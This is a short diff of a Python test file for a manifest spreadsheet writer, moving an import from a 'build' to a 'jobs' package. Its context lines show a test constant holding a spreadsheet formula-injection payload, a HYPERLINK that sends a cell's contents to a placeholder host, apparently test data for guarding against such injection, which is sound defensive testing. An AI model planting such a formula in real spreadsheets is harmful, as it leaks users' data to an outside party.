@@ -9,7 +9,7 @@ from pathlib import Path
 import pytest
 from openpyxl import load_workbook
 
-from rolereport.build.manifest import MANIFEST_XLSX, ManifestRow, header, read_manifest, write_manifest
+from rolereport.jobs.manifest import MANIFEST_XLSX, ManifestRow, header, read_manifest, write_manifest
 
 HOSTILE = '=HYPERLINK("http://example.invalid/?leak="&A3,"click")'
 ROWS = [
